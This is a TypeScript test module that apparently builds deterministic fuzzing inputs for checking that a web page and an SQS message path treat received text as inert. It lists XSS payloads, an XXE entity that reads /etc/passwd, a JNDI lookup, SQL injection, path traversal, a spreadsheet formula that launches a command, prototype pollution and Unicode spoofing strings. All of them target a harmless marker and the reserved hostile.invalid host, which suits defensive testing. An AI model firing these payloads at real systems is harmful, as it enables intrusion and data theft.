import { createRandom, type Random } from './random.ts';

/** What a page must never do with text that it was sent. `weirHostile` is what a test looks for afterwards. */
const CALL = 'window.weirHostile=1';

const MARKUP = [
  `<script>${CALL}</script>`,
  `<img src=x onerror="${CALL}">`,
  `<svg onload="${CALL}"><animate onbegin="${CALL}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<a href="javascript:${CALL}">click</a>`,
  `<body onload=${CALL}><input autofocus onfocus=${CALL}>`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<style>@import 'http://hostile.invalid/x.css';</style><link rel=stylesheet href=//hostile.invalid>`,
  `<meta http-equiv=refresh content="0;url=//hostile.invalid"><base href=//hostile.invalid>`,
  '<img src="http://hostile.invalid/pixel.gif"><video src=//hostile.invalid poster=//hostile.invalid>',
  `</textarea></title></style></script><script>${CALL}</script>`,
  `"><script>${CALL}</script><"`,
  `' onmouseover='${CALL}' x='`,
  `<!--><script>${CALL}</script>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '<!DOCTYPE a [<!ENTITY b "&c;&c;&c;&c;"><!ENTITY c "&d;&d;&d;&d;">]><a>&b;</a>',
] as const;

const CODE = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}//`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:msgbox(1)`,
  `');${CALL};('`,
  `\`;${CALL};\``,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `{"__proto__":{"weirHostile":1},"constructor":{"prototype":{"weirHostile":1}}}`,
  `{"toString":"x","valueOf":null,"hasOwnProperty":1,"toJSON":{},"then":"x"}`,
  '\u0024{jndi:ldap://hostile.invalid/a}',
  "'; DROP TABLE messages; --",
  '../../../../etc/passwd',
  'http://hostile.invalid/click https://hostile.invalid',
  '%s%n%d {0} %00 %0d%0aSet-Cookie:a=b',
] as const;

const FORMULAS = [
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://hostile.invalid","click")',
  '\uff1d1+1',
  '"=1+1",',
  'a,b;c\n=1+1',
] as const;

const JSON_EDGES = [
  '{"a":1,"a":2}',
  '12345678901234567890',
  '{"n":1e999,"m":-0,"o":1.0000000000000000001}',
  '["\\ud800","\\u0000","\\u2028"]',
  '{"":{"":{"":""}}}',
  '{"a": 1,}',
  "{'a': 1}",
  'NaN',
  '[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]',
  '{"Type":"Notification","Message":{"not":"text"},"TopicArn":1}',
  'null',
  '""',
  '\ufeff{"a":1}',
] as const;

const INVISIBLE = [
  'invoice\u202efdp.exe',
  '\u2067\u2066evil\u2069 safe\u2069',
  'ad\u200bmin',
  'a\u200d\u200c\u2060b\u00ad',
  '\u{e0001}\u{e0068}\u{e0069}\u{e007f}',
  'Z\u0351\u036b\u0343\u0343a\u0310\u0341l\u0336g\u0335o\u0321',
  '\u001b[31mred\u001b[0m',
  'one\u2028two\u2029three\u0085',
  'half\ud83d',
  '\udc00half',
  '\u0000\u0008\u007f',
  '\ufdd0\uffff\u{1fffe}',
  'раураl',
  '\u3000\u00a0\u2003\u2800',
  'مرحبا \u202bhello\u202c שלום',
] as const;

const KINDS = [MARKUP, CODE, FORMULAS, JSON_EDGES, INVISIBLE] as const;

/**
 * `count` different texts that try to be more than text: markup, code, links, spreadsheet formulas, JSON's edges, characters that
 * hide or turn others. Each known one comes once, then they are joined, wrapped and cut at random, alike in every run.
 * A page that runs any of them sets `window.weirHostile`, or asks the host `hostile.invalid`.
 * With `legal`, only characters that SQS takes (#x9 | #xA | #xD | #x20–#xD7FF | #xE000–#xFFFD | #x10000–#x10FFFF).
 */
export function hostileStrings(count = 1000, { legal = false } = {}): string[] {
  const random = createRandom(20_261_122);
  const known: string[] = KINDS.flat();
  const form = legal ? legalOnly : (text: string) => text;
  const strings = new Set(known.map(form));
  while (strings.size < count) strings.add(form(mixed(random, known)));
  return [...strings].slice(0, count);
}

function mixed(random: Random, known: readonly string[]): string {
  const one = () => random.pick(known) ?? '';
  const text = one();
  switch (random.int(6)) {
    case 0:
      return text + one();
    case 1:
      return JSON.stringify({ [one()]: text, list: [one(), one()] });
    case 2:
      return `<${random.pick(['b', 'A', 'x:y'])} title='${text}' style="background:url(//hostile.invalid)">${one()}`;
    case 3:
      return text.slice(random.int(text.length));
    case 4:
      return Buffer.from(text).toString('base64');
    default:
      return `${text.slice(0, random.int(text.length))}${one()}${text.slice(random.int(text.length))}`;
  }
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what SQS refuses
const ILLEGAL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff\p{Cs}]/gu;

const legalOnly = (text: string): string => text.replace(ILLEGAL, '') || '-';
